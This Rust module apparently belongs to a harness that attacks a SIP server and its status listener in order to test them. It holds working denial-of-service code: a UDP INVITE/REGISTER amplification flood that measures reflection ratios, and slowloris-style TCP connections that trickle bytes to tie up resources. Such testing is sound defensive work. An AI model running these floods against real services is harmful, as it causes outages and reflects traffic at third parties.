//! Attacks on the SIP front and the status listener, from an address of
//! their own (`ATTACKER`), as a host elsewhere would send them.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream, UdpSocket};

use super::{Report, Target};
use crate::probes::status_code;

/// Connections one attack holds at most.
const MAX_CONNECTIONS: usize = 2_000;
/// The Contacts the amplifier registers: as many as one REGISTER may
/// carry, each as long as a real one.
const CONTACTS: usize = 16;

async fn udp(from: IpAddr) -> Result<UdpSocket, String> {
    UdpSocket::bind(SocketAddr::new(from, 0))
        .await
        .map_err(|e| format!("a UDP socket on {from}: {e}"))
}

/// #6: a small request buying a large answer toward an address that never
/// proved it is there. The user first gets 16 long Contacts registered
/// (from an address that answers); then, as fast as they can, one address
/// that never ACKs sends fresh INVITEs for the user and a retransmission of
/// each, a second replays the first's INVITEs, and a third sends REGISTERs
/// without a Contact, which ask for the binding list.
/// Counted per address: bytes it sent and bytes it received, up to 2 s
/// after the attack (Timer G's repeats included). At full rate the victim
/// sheds load and its answers shrink to 503s; `pace` (between rounds of
/// four datagrams) shows what each request buys when it is served.
pub async fn amplify(
    target: &Target,
    until: Instant,
    pace: Option<Duration>,
) -> Result<Report, String> {
    let registrant = udp(target.from).await?;
    register_contacts(&registrant, target.sip_udp).await?;
    let kinds = ["INVITE", "foreign retransmission", "REGISTER fetch"];
    // Each kind from an address of its own: what an address has paid for
    // is counted per address.
    let mut sockets = Vec::new();
    for k in 0..kinds.len() {
        sockets.push(Arc::new(udp(beside(target.from, k as u8 + 1)).await?));
    }
    let counters: Vec<_> = sockets
        .iter()
        .map(|socket| {
            let socket = socket.clone();
            tokio::spawn(async move {
                let mut received = 0u64;
                let mut buf = vec![0u8; 65_536];
                let stop = until + Duration::from_secs(2);
                while let Ok(Ok((len, _))) =
                    tokio::time::timeout_at(stop.into(), socket.recv_from(&mut buf)).await
                {
                    received += len as u64;
                }
                received
            })
        })
        .collect();
    let inviter = sockets[0].local_addr().map_err(|e| e.to_string())?;
    let fetcher = sockets[2].local_addr().map_err(|e| e.to_string())?;
    let mut sent_bytes = [0u64; 3];
    let mut report = Report::default();
    let mut n = 0u64;
    while Instant::now() < until {
        n += 1;
        let invite = amp_request("INVITE", inviter, n, "");
        let fetch = amp_request("REGISTER", fetcher, n, "");
        for (kind, text) in [(0, &invite), (0, &invite), (1, &invite), (2, &fetch)] {
            if sockets[kind]
                .send_to(text.as_bytes(), target.sip_udp)
                .await
                .is_ok()
            {
                sent_bytes[kind] += text.len() as u64;
                report.sent += 1;
            }
        }
        match pace {
            Some(pause) => tokio::time::sleep(pause).await,
            None => tokio::task::yield_now().await,
        }
    }
    let mut total = (0, 0);
    for ((kind, counter), sent) in kinds.iter().zip(counters).zip(sent_bytes) {
        let received = counter.await.unwrap_or(0);
        report.notes.push(format!(
            "{kind}: {sent} bytes in, {received} out ({:.2}x)",
            received as f64 / sent.max(1) as f64
        ));
        total = (total.0 + sent, total.1 + received);
    }
    report.unproved = Some(total);
    Ok(report)
}

/// Another loopback address for the same attacker: `127.n.x.y` for
/// `127.0.x.y`.
fn beside(from: IpAddr, n: u8) -> IpAddr {
    match from {
        IpAddr::V4(v4) => {
            let [a, _, c, d] = v4.octets();
            IpAddr::V4(std::net::Ipv4Addr::new(a, n, c, d))
        }
        v6 => v6,
    }
}

/// A request about user `amp` whose Via names `me`; a REGISTER carries no
/// Contact, so it asks for the bindings.
fn amp_request(method: &str, me: SocketAddr, n: u64, extra: &str) -> String {
    let (uri, cseq) = match method {
        "REGISTER" => ("sip:example.com", n + 1),
        _ => ("sip:amp@example.com", 1),
    };
    let from = if method == "REGISTER" { "amp" } else { "x" };
    format!(
        "{method} {uri} SIP/2.0\r\n\
         Via: SIP/2.0/UDP {me};branch=z9hG4bK-amp-{method}-{n}\r\n\
         Max-Forwards: 70\r\n\
         From: <sip:{from}@example.com>;tag=a{n}\r\n\
         To: <sip:amp@example.com>\r\n\
         Call-ID: amp-{method}-{n}\r\n\
         CSeq: {cseq} {method}\r\n\
         {extra}Content-Length: 0\r\n\r\n"
    )
}

/// Registers long Contacts for `amp` from `socket`, which answers.
async fn register_contacts(socket: &UdpSocket, to: SocketAddr) -> Result<(), String> {
    let me = socket.local_addr().map_err(|e| e.to_string())?;
    let contacts: String = (0..CONTACTS)
        .map(|i| {
            format!(
                "Contact: <sip:amp-device-{i:02}-a-rather-long-user-part@192.0.2.{}:5060;transport=udp>;expires=600\r\n",
                i + 1
            )
        })
        .collect();
    let text = amp_request("REGISTER", me, 0, &contacts).replace("amp-REGISTER-0", "amp-setup");
    socket
        .send_to(text.as_bytes(), to)
        .await
        .map_err(|e| e.to_string())?;
    let mut buf = vec![0u8; 65_536];
    let (len, _) = tokio::time::timeout(Duration::from_secs(5), socket.recv_from(&mut buf))
        .await
        .map_err(|_| "no answer to the Contacts' REGISTER".to_owned())?
        .map_err(|e| e.to_string())?;
    match status_code(&String::from_utf8_lossy(&buf[..len])) {
        Some(200) => Ok(()),
        other => Err(format!("the Contacts' REGISTER got {other:?}")),
    }
}

/// #10: TCP connections to the SIP front from one address, each sending
/// the start of a REGISTER and then a byte a second, held to the end.
pub async fn tcp_slow(target: &Target, until: Instant) -> Result<Report, String> {
    let head = b"REGISTER sip:example.com SIP/2.0\r\nVia: SIP/2.0/TCP 192.0.2.1:5060;branch=z9hG4bK-slow\r\n";
    trickle(target.sip_tcp, target.from, head, until).await
}

/// #13: connections to the status listener that send half a request's
/// head and then a byte a second.
pub async fn status_stall(target: &Target, until: Instant) -> Result<Report, String> {
    trickle(
        target.status,
        target.from,
        b"GET /status HTTP/1.1\r\nHost: x\r\n",
        until,
    )
    .await
}

/// Opens connections to `to` as fast as it can (up to `MAX_CONNECTIONS`),
/// each sending `head` and then one byte a second; counts those the
/// victim refused or closed before the end.
async fn trickle(
    to: SocketAddr,
    from: IpAddr,
    head: &'static [u8],
    until: Instant,
) -> Result<Report, String> {
    let closed = Arc::new(AtomicU64::new(0));
    let mut tasks = Vec::new();
    let mut report = Report::default();
    while Instant::now() < until && tasks.len() < MAX_CONNECTIONS {
        report.sent += 1;
        let Ok(stream) = connect(from, to).await else {
            report.refused += 1;
            tokio::time::sleep(Duration::from_millis(1)).await;
            continue;
        };
        let closed = closed.clone();
        tasks.push(tokio::spawn(async move {
            if !hold(stream, head, until).await {
                closed.fetch_add(1, Ordering::Relaxed);
            }
        }));
    }
    for t in tasks {
        let _ = t.await;
    }
    report.refused += closed.load(Ordering::Relaxed);
    Ok(report)
}

async fn connect(from: IpAddr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(from, 0))?;
    tokio::time::timeout(Duration::from_secs(1), socket.connect(to))
        .await
        .map_err(|_| std::io::ErrorKind::TimedOut)?
}

/// Whether the connection stayed open until `until`.
async fn hold(mut stream: TcpStream, head: &[u8], until: Instant) -> bool {
    if stream.write_all(head).await.is_err() {
        return false;
    }
    let mut buf = [0u8; 4096];
    while Instant::now() < until {
        tokio::select! {
            read = stream.read(&mut buf) => {
                if matches!(read, Ok(0) | Err(_)) {
                    return false;
                }
            }
            () = tokio::time::sleep(Duration::from_secs(1)) => {
                if stream.write_all(b"X").await.is_err() {
                    return false;
                }
            }
        }
    }
    true
}
